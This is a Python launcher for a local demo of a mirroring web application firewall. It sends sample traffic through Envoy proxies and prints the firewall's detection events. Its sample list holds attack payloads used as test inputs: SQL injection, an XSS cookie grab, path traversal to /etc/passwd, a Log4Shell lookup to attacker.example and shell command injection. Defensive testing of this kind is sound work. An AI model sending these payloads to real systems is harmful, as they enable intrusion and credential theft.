"""`make run`: start the local mirrored topology, send a burst of sample traffic, then
follow the receiver's events until Ctrl-C (or for RUN_SECONDS seconds, if set).

    backend (python) <- front Envoy --mirror--> receiver Envoy + mirror-waf (sink role)
                                                      └── batches of events ──> collector (python)

The collector (local/collector.py) receives the filter's HTTP batches; EVENTS_FORMAT=otlp
switches them from NDJSON to OTLP/HTTP JSON logs.
"""
from __future__ import annotations

import json
import os
import signal
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from collector import CLUSTER, Collector, collector_cluster  # noqa: E402
from topology import Topology, default_plugin_config, local_ip  # noqa: E402

SAMPLES = [
    # (description, method, path, headers, body)
    ("benign GET", "GET", "/products?id=42&sort=price", {"user-agent": "Mozilla/5.0"}, None),
    ("benign JSON POST", "POST", "/api/cart", {"content-type": "application/json"}, '{"item": 42, "qty": 2, "note": "gift wrap, please"}'),
    ("client behind a trusted proxy (10.0.0.0/8)", "GET", "/account", {"x-forwarded-for": "198.51.100.23, 10.1.2.3"}, None),
    ("client behind an untrusted proxy", "GET", "/account", {"x-forwarded-for": "198.51.100.23, 203.0.113.77"}, None),
    ("SQL injection in the query", "GET", "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", {"x-forwarded-for": "198.51.100.23, 10.1.2.3"}, None),
    ("XSS in a form body", "POST", "/comment", {"content-type": "application/x-www-form-urlencoded"}, "text=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("path traversal", "GET", "/download?file=../../../../etc/passwd", {}, None),
    ("Log4Shell in a header", "GET", "/", {"x-api-version": "${jndi:ldap://attacker.example/a}"}, None),
    ("command injection in JSON", "POST", "/api/ping", {"content-type": "application/json"}, '{"host": "127.0.0.1; cat /etc/passwd"}'),
]


def show(ev: dict) -> None:
    v = ev.get("verdict", {})
    c = ev.get("client", {})
    s = ev.get("server", {})
    r = ev.get("request", {})
    tag = "ATTACK " + ",".join(v.get("classes", [])) if v.get("attack") else "benign"
    print(f"  event: {tag:<22} score={v.get('score')} client={c.get('ip')} ({c.get('source')}) "
          f"server={s.get('addr')}:{s.get('port')} host={r.get('host')} {r.get('method')} {r.get('path')} id={ev.get('request_id')}")
    for f in ev.get("findings", [])[:4]:
        print(f"         {f.get('rule')} at {f.get('location')}: {f.get('evidence')!r}")
    for n in ev.get("notes", []):
        print(f"         note: {n}")


def main() -> int:
    trusted = ["127.0.0.0/8", "::1/128", "10.0.0.0/8"]
    ip = local_ip()
    if ip:
        trusted.append(f"{ip}/32")
    fmt = os.environ.get("EVENTS_FORMAT", "ndjson")
    collector = Collector()
    http = {"cluster": CLUSTER, "format": fmt, "batch_max": 100, "flush_ms": 500, "timeout_ms": 2000}
    cfg = default_plugin_config("sink", trusted=trusted, events={"include_benign": True, "http": http})
    topo = Topology(cfg, role="sink", workdir=Path(".run"), extra_clusters=collector_cluster(collector.port))
    stop = {"now": False}
    signal.signal(signal.SIGINT, lambda *_: stop.__setitem__("now", True))
    signal.signal(signal.SIGTERM, lambda *_: stop.__setitem__("now", True))
    try:
        topo.start()
        p = topo.ports
        print("mirror-waf local topology is up (all on 127.0.0.1):")
        print(f"  front Envoy      :{p['FRONT_PORT']}  (routes to the backend, mirrors 100% to the receiver; admin :{p['FRONT_ADMIN_PORT']})")
        print(f"  receiver Envoy   :{p['RECEIVER_PORT']}  (mirror-waf, role=sink; admin :{p['RECEIVER_ADMIN_PORT']})")
        print(f"  backend          :{p['BACKEND_PORT']}  (python echo app)")
        print(f"  collector        :{collector.port}  (python; receives {fmt} batches from the filter, cluster '{CLUSTER}')")
        print(f"  plugin config    {topo.plugin_config}")
        print(f"  logs             {topo.workdir}/receiver.log, {topo.workdir}/front.log, access log {topo.access_log}")
        print()
        print("Sending sample traffic through the front proxy:")
        for desc, method, path, headers, body in SAMPLES:
            status, _, _ = topo.request(method, path, headers, body)
            print(f"  {status} {method} {path[:70]}  ({desc})")
        print()
        print("Events from the receiver (Ctrl-C to stop):")
        print(f"  try: curl -s 'http://127.0.0.1:{p['FRONT_PORT']}/search?q=%27%20or%201%3D1--' -H 'x-forwarded-for: 198.51.100.7'")
        print(f"  metrics: curl -s http://127.0.0.1:{p['RECEIVER_ADMIN_PORT']}/stats/prometheus | grep mirror_waf")
        seen = 0
        batches_seen = 0
        limit = float(os.environ.get("RUN_SECONDS", "0") or 0)
        t0 = time.time()
        while not stop["now"]:
            evs = topo.receiver.events()
            for ev in evs[seen:]:
                show(ev)
            seen = len(evs)
            got = collector.received()
            if len(got) > batches_seen:
                n = sum(len(b.otlp_events() if b.path.endswith("/v1/logs") else b.ndjson()) for b in got[batches_seen:])
                st = topo.receiver.stats()
                print(f"  collector: batch(es) of {n} event(s) arrived at {got[-1].path} ({got[-1].headers.get('content-type')}); "
                      f"exported {st.get('wasmcustom.mirror_waf_events_exported_total', 0)} of {st.get('wasmcustom.mirror_waf_events_total', 0)} events, "
                      f"queued {st.get('wasmcustom.mirror_waf_events_queued', 0)}")
                batches_seen = len(got)
            if limit and time.time() - t0 > limit:
                break
            time.sleep(0.3)
        print("\nstopping...")
    finally:
        topo.stop()
        collector.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
